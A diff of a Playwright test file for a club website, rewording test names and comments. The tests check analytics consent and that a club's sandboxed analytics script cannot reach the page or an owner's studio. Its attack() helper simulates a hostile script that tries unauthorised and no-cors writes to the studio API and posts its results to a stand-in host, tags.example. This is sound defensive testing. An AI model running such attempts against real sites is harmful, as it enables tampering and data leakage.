@@ -13,7 +13,7 @@ async function openClub(page: Page, path = 'contact') {
   await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
 }
 
-test('nothing is gathered before a visitor agrees where the club asks for that', async ({ page }) => {
+test('collects nothing before a visitor agrees, if the club requires consent', async ({ page }) => {
   await alterReply(page, /\/(contact|tc)$/, (html) =>
     html.replace('"analyticsConsent":false', '"analyticsConsent":true'),
   )
@@ -28,7 +28,7 @@ test('nothing is gathered before a visitor agrees where the club asks for that',
   await expect(question(page)).toHaveCount(0)
   expect(await gathered(page)).toBeGreaterThan(0)
 
-  // Taken back as easily as given.
+  // Consent can be withdrawn as easily as it was given.
   await page.getByRole('contentinfo').getByRole('button', { name: 'Statistics' }).click()
   await question(page).getByRole('button', { name: 'No, thanks' }).click()
   const before = await gathered(page)
@@ -40,14 +40,14 @@ test('nothing is gathered before a visitor agrees where the club asks for that',
   expect(await gathered(page)).toBe(0)
 })
 
-test('a club that does not ask gathers at once, and shows no question', async ({ page }) => {
+test('a club without the question collects at once', async ({ page }) => {
   await openClub(page)
   await expect(question(page)).toHaveCount(0)
   await expect(page.getByRole('contentinfo').getByRole('button', { name: 'Statistics' })).toHaveCount(0)
   expect(await gathered(page)).toBeGreaterThan(0)
 })
 
-/** What a hostile analytics script tries from where it runs, each attempt with its result. */
+/** What a hostile analytics script tries from its frame, each attempt with its result. */
 async function attack() {
   const queued = () => (window as { dataLayer?: unknown[] }).dataLayer?.length ?? 0
   while (queued() === 0) await new Promise((resolve) => setTimeout(resolve, 20))
@@ -69,7 +69,7 @@ async function attack() {
     write: await attempt(
       async () => (await call('/studio/api/v1/classes', { method: 'POST', headers: json, body: '{}' })).status,
     ),
-    // A simple request needs no permission to be sent; whether it took effect shows in the list of classes.
+    // A simple request needs no permission to be sent; the list of classes shows whether it had any effect.
     blindWrite: await attempt(
       async () => (await call('/studio/api/v1/classes', { method: 'POST', mode: 'no-cors', body: '{}' })).type,
     ),
@@ -83,7 +83,7 @@ async function attack() {
   await fetch('https://tags.example/report', { method: 'POST', body: JSON.stringify(results) })
 }
 
-test('the club’s script receives events, and can’t reach the page or the studio of an owner', async ({ page }) => {
+test('the club’s script receives events, and can’t reach the page or an owner’s studio', async ({ page }) => {
   const server = await startOwnServer()
   try {
     server.setTenant('pulse', 'localytics.url=https://tags.example/tags.js')
@@ -104,7 +104,7 @@ test('the club’s script receives events, and can’t reach the page or the stu
     expect(await callStudio(page, 'POST', '/session', owner)).toEqual({ kind: 'signedIn' })
     const classes = () => callStudio(page, 'GET', '/classes')
     const before = await classes()
-    // A busy server may still serve the page as it was before the setting.
+    // A busy server may still serve the page without the setting.
     await expect(async () => {
       await page.goto(server.url('/contact'))
       await expect(page.locator('iframe')).toHaveAttribute('src', /statistics-frame/, { timeout: 5000 })
@@ -115,7 +115,7 @@ test('the club’s script receives events, and can’t reach the page or the stu
       expect(reports[0]?.[reach], reach).toBe('refused')
     await expect(page).toHaveURL(server.url('/contact'))
     expect(await classes()).toEqual(before)
-    // The owner is still signed in, so the refusals are not those of a visitor.
+    // The owner is still signed in, so the script was not refused for lack of a session.
     expect(await callStudio(page, 'GET', '/session')).toMatchObject({ reauthenticatedUntil: null })
   } finally {
     await server.close()
